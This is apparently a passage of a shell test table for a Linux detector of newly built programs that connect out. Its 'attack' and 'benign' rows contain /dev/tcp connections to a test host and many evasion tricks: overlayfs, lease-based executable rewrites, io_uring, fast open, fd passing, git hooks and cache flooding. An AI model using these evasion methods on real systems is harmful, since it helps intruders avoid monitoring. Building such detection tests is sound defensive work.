mkdir l u w m
unshare -rm bash -c 'mount -t overlay none -o lowerdir=l,upperdir=u,workdir=w m && gcc -o m/beacon beacon.c'
u/beacon
EOF

row leased attack user 'Writing over an executable file' 'a leased file, started before its contents are linked, written while exec waits' <<'EOF'
need python3
cp /bin/true x
cat >l.py <<'P'
import fcntl, os, signal, subprocess, time
fd = os.open("x", os.O_RDWR)
signal.signal(signal.SIGIO, lambda *_: None)
fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
p = subprocess.Popen(["sh", "-c", "exec ./x"])
time.sleep(1)
subprocess.call(["gcc", "-o", "beacon", "beacon.c"])
data = open("beacon", "rb").read()
os.pwrite(fd, data, 0)
os.ftruncate(fd, len(data))
os.close(fd)
p.wait()
P
python3 l.py
EOF

row deletes-itself attack user - 'deletes itself first' <<'EOF'
gcc -o beacon beacon.c
./beacon gone
EOF

row fork attack user - 'a child connects' <<'EOF'
gcc -o beacon beacon.c
./beacon fork
EOF

row daemon attack user - 'forks twice, in a session of its own' <<'EOF'
gcc -o beacon beacon.c
./beacon daemon
sleep 2
EOF

row thread attack user - 'a thread connects' <<'EOF'
gcc -pthread -o beacon beacon.c
./beacon thread
EOF

row exec-bash attack user - 'becomes bash, which connects' <<'EOF'
gcc -o beacon beacon.c
./beacon exec bash -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row exec-python attack user - 'becomes python, whose child connects' <<'EOF'
need python3
gcc -o beacon beacon.c
./beacon exec python3 -c "import subprocess; subprocess.call(['bash', '-c', 'exec 3<>/dev/tcp/$TO/4444'])"
EOF

row connect-shell attack user - 'connects and becomes a shell' <<'EOF'
gcc -o beacon beacon.c
./beacon connexec bash -c 'echo hello'
EOF

row started-by-older attack user - 'started by a process that is older than it' <<'EOF'
mkfifo f
(read -r command <f; exec $command) &
gcc -o beacon beacon.c
echo ./beacon >f
wait
EOF

row scripted attack user - 'through a script that was there before' <<'EOF'
printf '#!/bin/sh\nexec nice nohup env "$@"\n' >s
chmod +x s
gcc -o beacon beacon.c
./s setsid ./beacon >/dev/null 2>&1
sleep 1
EOF

row launchers attack user - 'through a terminal of its own, flock, env -i, nice and perl' <<'EOF'
need script flock perl
gcc -o beacon beacon.c
script -qec "flock l env -i nice perl -e 'exec q(./beacon)'" /dev/null >/dev/null
EOF

row git-hook attack user - 'as a hook of git' <<'EOF'
need git
git init -q .
mkdir -p .git/hooks
gcc -o .git/hooks/pre-commit beacon.c
git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x
EOF

row stopped attack user - 'stopped and continued' <<'EOF'
gcc -o beacon beacon.c
bash -c 'kill -STOP $$; exec ./beacon' &
sleep 2
kill -CONT $!
wait
EOF

row waits attack user - 'run 65 s after it was linked' <<'EOF'
gcc -o beacon beacon.c
sleep 65
./beacon
EOF

row other-user attack root - 'linked by one account, copied and run by another' <<'EOF'
as_user gcc -o beacon beacon.c
as_other cp beacon "/dev/shm/$NAME"
as_other "/dev/shm/$NAME"
rm "/dev/shm/$NAME"
EOF

row setuid attack root - 'given to root, setuid, run by the account' <<'EOF'
as_user gcc -o beacon beacon.c
chown 0:0 beacon
chmod 4755 beacon
as_user ./beacon
EOF

row python-child attack user - 'a python that is connected starts it: it talks over what it is handed' <<'EOF'
need python3
gcc -o beacon beacon.c
python3 -c "import socket, subprocess
s = socket.create_connection(('$TO', 4444))
subprocess.call(['./beacon', 'say'], stdout=s.fileno())"
EOF

row socat attack user - 'socat EXEC: the same' <<'EOF'
need socat
gcc -o beacon beacon.c
timeout 3 socat "TCP:$TO:4444" EXEC:'./beacon say'
EOF

row handed attack user 'Other ways out' 'a connection handed over a unix socket by a python that is older' <<'EOF'
need python3
cat >s.py <<'P'
import array, os, socket, sys
u = socket.socket(socket.AF_UNIX)
u.bind("u")
u.listen(1)
c, _ = u.accept()
s = socket.create_connection((sys.argv[1], 4444))
c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
P
python3 s.py "$TO" &
sleep 1
gcc -o beacon beacon.c
./beacon handed u
wait
EOF

row fifo-relay attack user 'Other ways out' 'through a fifo that an older shell carries outside' <<'EOF'
mkfifo f
(bash -c "exec 3<>/dev/tcp/$TO/4444; cat <f >&3") &
gcc -o beacon beacon.c
./beacon say >f
wait
EOF

row pipe-curl attack user 'Other ways out' 'its output is piped into curl, which sends it' <<'EOF'
need curl
gcc -o beacon beacon.c
./beacon say | curl -s -m 2 -T - "http://$TO:4444/" >/dev/null
exit 0
EOF

row shell-function attack user - 'a shell function with the name of a system program' <<'EOF'
gcc -o beacon beacon.c
curl() { ./beacon; }
curl
EOF

row flood attack user 'Making very many executable files' 'the file pushed out of memory by 20000 executables' <<'EOF'
need python3
gcc -o beacon beacon.c
cat >s.py <<'P'
import os
for i in range(20000):
    os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o755))
    os.rename("f", "g%d" % i)
P
python3 s.py
./beacon
EOF

### how it connects

row nonblock attack user - 'non-blocking connect' <<'EOF'
gcc -o beacon beacon.c
./beacon nonblock
EOF

row late-rebuilt attack user - 'a connect that is not answered; meanwhile its file is removed, linked anew and run' <<'EOF'
need python3
cat >s.py <<'P'
import socket, sys, time
s = socket.socket()
s.bind((sys.argv[1], 4446))
s.listen(0)
c = [socket.socket() for _ in range(4)]
for x in c:
    x.setblocking(False)
    x.connect_ex((sys.argv[1], 4446))
time.sleep(6)
P
python3 s.py "$TO" &
gcc -o beacon beacon.c
echo 'int main(void) { return 0; }' >t.c
sleep 1
./beacon late &
sleep 0.5
rm beacon
gcc -o beacon t.c
./beacon
wait
EOF

row refused attack user - 'a connect that is refused' <<'EOF'
gcc -o beacon beacon.c
./beacon refused
EOF

row udp-connect attack user - 'UDP connect' <<'EOF'
gcc -o beacon beacon.c
./beacon udp
EOF

row ipv6 attack user - 'IPv6' <<'EOF'
gcc -o beacon beacon.c
./beacon ipv6
EOF

row mapped attack user - 'IPv4 as a mapped IPv6 address' <<'EOF'
gcc -o beacon beacon.c
./beacon mapped
EOF

row mptcp attack user - 'multipath TCP' <<'EOF'
gcc -o beacon beacon.c
./beacon mptcp
EOF

row int80 attack user - '32-bit connect of a 64-bit program' <<'EOF'
gcc -o beacon beacon.c
./beacon int80
EOF

row uring attack user - 'io_uring' <<'EOF'
gcc -o beacon beacon.c
./beacon uring
EOF

row sqpoll attack user 'Other ways out' 'io_uring with a polling kernel thread' <<'EOF'
gcc -o beacon beacon.c
./beacon sqpoll
EOF

row uring-async attack user - 'io_uring, carried out by its workers (IOSQE_ASYNC)' <<'EOF'
gcc -o beacon beacon.c
./beacon uring-async
EOF

row uring-sendmsg attack user - 'UDP sendmsg by io_uring' <<'EOF'
gcc -o beacon beacon.c
./beacon uring-sendmsg
EOF

row sendto attack user 'Other ways out' 'UDP sendto' <<'EOF'
gcc -o beacon beacon.c
./beacon sendto
EOF

row fastopen attack user - 'TCP fast open: no connect' <<'EOF'
gcc -o beacon beacon.c
./beacon fastopen
EOF

row fastopen-sendmsg attack user - 'the same by sendmsg' <<'EOF'
gcc -o beacon beacon.c
./beacon fastopen-sendmsg
EOF

row loopback attack user 'Other ways out' 'connects to a forwarder on loopback' <<'EOF'
gcc -o beacon beacon.c
./beacon local
EOF

row listens attack user 'Other ways out' 'waits to be connected to' <<'EOF'
gcc -o beacon beacon.c
./beacon bind 0.0.0.0
EOF

### the same, with what the rules that are off need audited, too

row on-sendto attack more - 'UDP sendto' <<'EOF'
gcc -o beacon beacon.c
./beacon sendto
EOF

row on-sendmsg attack more - 'UDP sendmsg' <<'EOF'
gcc -o beacon beacon.c
./beacon sendmsg
EOF

row on-sendmmsg attack more - 'UDP sendmmsg' <<'EOF'
gcc -o beacon beacon.c
./beacon sendmmsg
EOF

row on-fastopen attack more - 'TCP fast open: no connect' <<'EOF'
gcc -o beacon beacon.c
./beacon fastopen
EOF

row on-unspec attack more 'Other ways out' 'UDP sendto with AF_UNSPEC, which the kernel takes for IPv4' <<'EOF'
gcc -o beacon beacon.c
./beacon unspec
EOF

row on-loopback attack more - 'connects to a forwarder on loopback' <<'EOF'
gcc -o beacon beacon.c
./beacon local
EOF

row on-listens attack more - 'waits to be connected to' <<'EOF'
gcc -o beacon beacon.c
./beacon bind 0.0.0.0
EOF

### what looks alike and is none

row b-cp benign user - 'a system program copied by cp' <<'EOF'
gcc -o beacon beacon.c
cp /bin/bash x
./x -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-cat benign user - 'a system program copied by cat and chmod' <<'EOF'
gcc -o beacon beacon.c
cat /bin/bash >x
chmod +x x
./x -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-base64 benign user - 'a system program through base64, beside a linked one that base64 never saw' <<'EOF'
gcc -o beacon beacon.c
base64 /bin/bash >t
base64 -d t >x
chmod +x x
./x -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-tar benign user - 'a tar file of system programs' <<'EOF'
gcc -o beacon beacon.c
tar cf a.tar -C /bin bash
tar xf a.tar
./bash -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-tar-C benign user - 'tar -C of a system program, beside a linked one of another directory' <<'EOF'
gcc -o beacon beacon.c
mkdir d
tar -C /bin -cf - bash | tar -C d -xf -
d/bash -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-tar-dir benign user - 'tar of a directory of system programs, beside a linked one' <<'EOF'
gcc -o beacon beacon.c
mkdir d e
cp /bin/bash d/
tar cf a.tar d
tar xf a.tar -C e
e/d/bash -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-untar benign user - 'unpacked by tar beside a linked program, of whose name it is' <<'EOF'
mkdir d
cp /bin/bash d/beacon
tar cf a.tar d
sleep 61
rm -r d
gcc -o beacon beacon.c
tar xf a.tar
d/beacon -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-proc-exe benign user - 'cp of /proc/PID/exe of a shell, beside a linked one' <<'EOF'
gcc -o beacon beacon.c
cp /proc/$$/exe x
./x -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-acl benign user - 'cp -a of a system program and sed -i of a script, beside a linked one' <<'EOF'
gcc -o beacon beacon.c
cp -a /bin/bash x
./x -c "exec 3<>/dev/tcp/$TO/4444"
printf '#!/bin/bash\nexec 3<>/dev/tcp/%s/4443\n' "$TO" >s
chmod +x s
sed -i s/4443/4444/ s
./s
EOF

row b-strip benign user - 'a system program rewritten by strip' <<'EOF'
gcc -o beacon beacon.c
strip -o x /bin/bash
./x -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-over benign user 'taken for linked' 'a system program copied over a linked one' <<'EOF'
gcc -o x beacon.c
cp /bin/bash x
./x -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-over-cat benign user 'taken for linked' 'the same by rm and cat: the inode is used again' <<'EOF'
gcc -o x beacon.c
rm x
cat /bin/bash >x
chmod +x x
./x -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-ldso benign user - 'a system program started by ld.so beside a linked one' <<'EOF'
gcc -o beacon beacon.c
"$(ldso)" /bin/bash -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-script benign user - 'a script made executable together with a linked program' <<'EOF'
gcc -o beacon beacon.c
echo "exec 3<>/dev/tcp/$TO/4444" >s
sed -i '1i #!/bin/bash' s
chmod +x beacon s
./s
EOF

row b-script-made benign user - 'a script that a linked program writes' <<'EOF'
cat >g.c <<'C'
#include <stdio.h>
int main(void) { puts("#!/bin/bash\nexec 3<>/dev/tcp/$1/4444"); return 0; }
C
gcc -o gen g.c
./gen >s
chmod +x s
./s "$TO"
EOF

row b-conftest benign user - 'conftests, deleted; a script gets the inode' <<'EOF'
for i in 1 2 3 4 5; do
	echo "int main(void) { return $i - $i; }" >conftest.c
	gcc -o conftest conftest.c && ./conftest
	rm conftest conftest.c
done
printf '#!/bin/bash\nexec 3<>/dev/tcp/%s/4444\n' "$TO" >config.status
chmod +x config.status
./config.status
EOF

row b-conftest-cp benign user - 'a conftest, deleted; a copy of a system program gets the inode' <<'EOF'
echo 'int main(void) { return 0; }' >conftest.c
gcc -o conftest conftest.c && ./conftest
rm conftest
cp /bin/bash tool
./tool -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-parent benign user - 'the shell that ran a linked program connects itself' <<'EOF'
echo 'int main(void) { return 0; }' >t.c
gcc -o t t.c
./t
exec 3<>"/dev/tcp/$TO/4444"
EOF

row b-orphan benign user - 'an orphan of a shell connects, after a script out of a linked archive was run' <<'EOF'
gcc -o beacon beacon.c
printf '#!/bin/bash\n' >s
chmod +x s
tar cf a.tar beacon s
mkdir d
tar xf a.tar -C d
d/s
( (sleep 1; exec 3<>"/dev/tcp/$TO/4444") &)
sleep 2
EOF

row b-upload benign user - 'make builds and tests, then curl uploads what was built' <<'EOF'
need make curl
echo 'int main(void) { return 0; }' >t.c
make -s t
./t
curl -s -m 2 -T t "http://$TO:4444/" >/dev/null
exit 0
EOF

row b-same-name benign user - 'a system program of the same name as a linked one' <<'EOF'
need curl
echo 'int main(void) { return 0; }' >t.c
gcc -o curl t.c
./curl
curl -s -m 2 "http://$TO:4444/" >/dev/null
exit 0
EOF

row b-driver benign user - 'a wrapper called cc that reaches a cache before it compiles' <<'EOF'
printf '#!/bin/bash\nexec 3<>/dev/tcp/%s/4444\nexec /usr/bin/gcc "$@"\n' "$TO" >cc
chmod +x cc
./cc -o beacon beacon.c
EOF

row b-memfd benign user - 'a system program run from a memfd beside a linked one' <<'EOF'
need python3
gcc -o beacon beacon.c
python3 -c "import os
fd = os.memfd_create('m', 0)
os.write(fd, open('/bin/bash', 'rb').read())
os.execve(fd, ['m', '-c', 'exec 3<>/dev/tcp/$TO/4444'], os.environ)"
EOF

row b-venv benign user - 'python copied into a virtual environment' <<'EOF'
need python3
gcc -o beacon beacon.c
cp "$(readlink -f "$(command -v python3)")" python
./python -c "import socket; socket.create_connection(('$TO', 4444))"
EOF

row b-debugger benign user - 'strace runs a linked program, then something that connects' <<'EOF'
need strace
echo 'int main(void) { return 0; }' >t.c
gcc -o t t.c
strace -o /dev/null ./t
strace -f -o /dev/null bash -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-package benign root - 'installed by dpkg of a package with a program built elsewhere' <<'EOF'
need dpkg dpkg-deb
mkdir -p p/DEBIAN p/usr/bin root/var/lib/dpkg/updates root/var/lib/dpkg/info
: >root/var/lib/dpkg/status
printf 'Package: evader\nVersion: 1\nArchitecture: all\nMaintainer: x <x@x>\nDescription: x\n' >p/DEBIAN/control
cp /bin/bash p/usr/bin/tool
dpkg-deb -b p p.deb >/dev/null
dpkg --root="$PWD/root" --force-depends -i p.deb >/dev/null
as_user root/usr/bin/tool -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-objcopy benign user 'taken for linked' 'objcopy, as a build does, of a system program over a linked name' <<'EOF'
gcc -o tool beacon.c
rm tool
objcopy /bin/bash tool
./tool -c "exec 3<>/dev/tcp/$TO/4444"
EOF

row b-installed benign user - 'make install of a script and of a linked program by one install' <<'EOF'
gcc -o beacon beacon.c
printf '#!/bin/bash\nexec 3<>/dev/tcp/%s/4444\n' "$TO" >s
mkdir d
install -m 755 beacon s d/
d/s
EOF

row b-tar-script benign user 'taken for linked' 'a script unpacked from the tar file that holds a linked program' <<'EOF'
gcc -o beacon beacon.c
printf '#!/bin/bash\nexec 3<>/dev/tcp/%s/4444\n' "$TO" >s
chmod +x s
tar cf a.tar beacon s
mkdir d
tar xf a.tar -C d
d/s
EOF

### what the others would suffer from

row flood-linked attack last 'Making very many executable files' 'the file pushed out of memory by 16000 copies of a linked program' <<'EOF'
gcc -Os -s -o beacon beacon.c
mkdir d
for i in $(seq 400); do cp beacon d/o$i; done
for i in $(seq 40); do cp -r d e$i; done
./beacon
EOF
